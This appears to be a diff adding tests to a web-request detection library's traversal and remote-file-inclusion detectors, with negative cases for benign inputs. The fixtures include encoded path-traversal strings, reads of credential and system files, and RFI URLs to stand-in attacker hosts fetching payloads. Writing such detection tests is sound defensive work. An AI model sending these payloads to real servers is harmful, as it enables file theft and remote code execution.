@@ -10,6 +10,8 @@ const query = (value: string) => path(`/file?name=${encodeURIComponent(value)}`)
 const header = (value: string) => normalizeEvent({ url: { original: "/" }, http: { request: { method: "GET", headers: { "x-original-url": value } } } });
 const upload = (filename: string) =>
   normalizeEvent({ url: { original: "/upload" }, http: { request: { method: "POST", body: { content: `--b\r\nContent-Disposition: form-data; name="doc"; filename="${filename}"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--` } } } });
+const agent = (ua: string) => normalizeEvent({ url: { original: "/" }, http: { request: { method: "GET" } }, user_agent: { original: ua } });
+const rfiIds = (e: Event) => detectPayloads(e).filter((d) => d.category === "rfi").map((d) => d.id);
 const lfiIds = (e: Event) => detectPayloads(e).filter((d) => d.category === "path_traversal").map((d) => d.id);
 
 describe("traversal and restricted-file detectors", () => {
@@ -30,8 +32,43 @@ describe("traversal and restricted-file detectors", () => {
     ["sn-lfi-exposed-artifact", path("/storage/logs/laravel.log")],
     ["sn-lfi-exposed-artifact", query("www.zip")],
     ["sn-lfi-dev-server", path("/@fs/home/app/.env?raw")],
+    ["sn-lfi-system-file", query("/var/lib/php/sessions/sess_k2v9q0a7mm1c")],
+    ["sn-lfi-system-file", query("/opt/stack/etc/php.ini")],
+    ["sn-lfi-system-file", query("/etc/ld.so.preload")],
+    ["sn-lfi-system-file", agent("scanbot/2 (/home/deploy/.git-credentials)")],
+    ["sn-lfi-traversal", path("/img?f=%c0%ae%c0%ae%c0%afapp.db")],
+    ["sn-lfi-traversal", path("/img?f=..%e0%80%af..%e0%80%afkeys")],
+    ["sn-lfi-traversal", path("/img?f=..%u2215..%u2215conf")],
+    ["sn-lfi-traversal", query("....//....//settings.yml")],
+    ["sn-lfi-system-file", query("/etc//group")],
+    ["sn-lfi-system-file", query("/etc/./sudoers")],
+    ["sn-lfi-system-file", query("~/.zshrc")],
+    ["sn-lfi-system-file", query("d:\\xampp\\apache\\logs\\access.log")],
+    ["sn-lfi-temp-drop", query(">/dev/shm/.x1")],
+    ["sn-lfi-temp-drop", query("id; 2>>/var/tmp/out.txt")],
   ])("%s fires on %#", (id, event) => {
     expect(lfiIds(event)).toContain(id);
+  });
+
+  it.each([
+    ["sn-rfi-path-param", path("/modules/gallery/show.php?cfg_base_dir=http://files.attacker.example/drop")],
+    ["sn-rfi-path-param", path("/index.php?settings[rootPath]=ftp://203.0.113.9/")],
+    ["sn-rfi-path-param", path("/lib/init.php?includePath=https://bad.example/payload.txt")],
+    ["sn-rfi-remote-url", query("https://[2001:db8:4::12]/stage.inc")],
+    ["sn-rfi-remote-url", path("/view.php?page=http://bad.example/shell%00")],
+  ])("%s fires on %#", (id, event) => {
+    expect(rfiIds(event)).toContain(id);
+  });
+
+  it.each([
+    ["an image path on a CDN", path("/profile?avatar_path=https://cdn.example.net/u/42.png")],
+    ["a redirect path", path("/login?redirect_path=https://app.example.org/home")],
+    ["a return path in camel case", path("/sso?returnPath=https://portal.example.org/")],
+    ["a link with a fragment", path("/share?target=https://docs.example.org/guide#install")],
+    ["a URL in a plain parameter", path("/bookmark?u=https://news.example.com/story/1")],
+    ["a local folder parameter", path("/files?dir=photos/2026")],
+  ])("rfi stays quiet on %s", (_label, event) => {
+    expect(rfiIds(event)).toEqual([]);
   });
 
   it.each([
@@ -45,6 +82,18 @@ describe("traversal and restricted-file detectors", () => {
     ["an environment page", path("/settings/environment")],
     ["a version string", query("release 0x1f build 7")],
     ["a handle with @", path("/@alice/posts")],
+    ["a shell tutorial sentence", query("the > sign sends output to a file, e.g. into /tmp")],
+    ["a greater-than comparison", query("price >100 and /tmp discount")],
+    ["a question about php.ini", query("where is php.ini on ubuntu?")],
+    ["a browser user agent", agent("Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0")],
+    ["Japanese text about folders", query("フォルダ /tmp の中身を確認")],
+    ["a session id cookie value", query("sess_9f8e7d6c5b4a")],
+    ["a URL with a doubled slash", query("https://example.org//docs/./intro")],
+    ["a profile page", path("/u/kim/profile?tab=about")],
+    ["a fraction slash in a recipe", query("1\u20442 cup of flour")],
+    ["an ellipsis before a double slash", query("see more.... // comments")],
+    ["Tamil text", query("தமிழ் கோப்பு / அடைவு")],
+    ["a Latin-1 word with à", path("/menu?plat=p%E2t%E9+%E0+la+cr%E8me")],
   ])("stays quiet on %s", (_label, event) => {
     expect(lfiIds(event)).toEqual([]);
   });
